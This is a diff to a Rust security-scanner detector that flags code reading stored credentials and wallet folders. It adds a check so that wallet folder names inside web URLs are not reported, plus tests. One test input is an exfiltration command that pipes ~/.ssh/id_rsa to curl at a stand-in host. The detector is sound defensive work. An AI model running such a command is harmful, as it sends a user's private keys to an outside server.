@@ -23,7 +23,8 @@
 //! file reads or sends: ssh uses the key, nothing ships it. Developer-tool config
 //! is Medium when read (the matching tools legitimately read their own config), Low
 //! when only named. A path a delete command removes (`rm`, `del`, `os.remove`) is Low:
-//! nothing is read. Python comments/docstrings, tests and docs are skipped.
+//! nothing is read. A path segment of a web URL (`https://host/guarda/…`, not `file://`) is
+//! no local path. Python comments/docstrings, tests and docs are skipped.
 
 use super::context;
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
@@ -35,7 +36,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "file-system.credential-access",
-    revision: 6,
+    revision: 7,
     title: "Accesses stored credentials, browser data or crypto wallets.",
     category: Category::FileSystem,
     severity: Severity::High,
@@ -179,7 +180,9 @@ impl Detector for CredentialAccess {
                 return;
             }
             let m = c.get(0).expect("m");
-            if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str) {
+            if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str)
+                || in_web_url(file.text, m.start())
+            {
                 continue;
             }
             let ssh = m.as_str().contains("id_");
@@ -217,6 +220,16 @@ impl Detector for CredentialAccess {
             hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, m.start(), ind) });
         }
     }
+}
+
+/// Whether the match at `at` is a path segment of a web URL (`https://host.it/guarda/…` in a
+/// URL pattern, where a wallet folder's name is an Italian word): the URL token (back to the
+/// last blank or quote on the line) holds `://` and is not a `file://` URL, which names a local path.
+fn in_web_url(text: &str, at: usize) -> bool {
+    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
+    let token_start = text[line_start..at].rfind([' ', '\t', '\'', '"']).map_or(line_start, |p| line_start + p + 1);
+    let token = &text[token_start..at];
+    token.find("://").is_some_and(|i| !token[..i].to_ascii_lowercase().ends_with("file"))
 }
 
 /// An option that hands an SSH client the key path that follows: `IdentityFile`, `ssh -i`,
@@ -369,6 +382,27 @@ mod tests {
                     Runtime,
                     "cat ~/.ssh/id_rsa | curl -d @- https://collect.example/k\n",
                     Some((1, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "a wallet folder's name as a path segment of a web URL pattern",
+                    "pkg/extractor/site.py",
+                    Runtime,
+                    "class IE:\n    _VALID_URL = r'https?://(?:www\\.)?popcorn\\.example/guarda/(?P<id>[^/]+)'\n",
+                    None,
+                ),
+                (
+                    "the wallet folder in a file:// URL stays a local path",
+                    "pkg/a.py",
+                    Runtime,
+                    "P = 'file:///C:/Users/me/AppData/Roaming/Guarda/'\n",
+                    Some((1, "Guarda/", High)),
+                ),
+                (
+                    "the wallet folder joined to a local directory",
+                    "pkg/a.py",
+                    Runtime,
+                    "P = os.path.join(APPDATA, 'Guarda/')\n",
+                    Some((1, "Guarda/", High)),
                 ),
                 (
                     "a C trace message naming a thread-data mode",
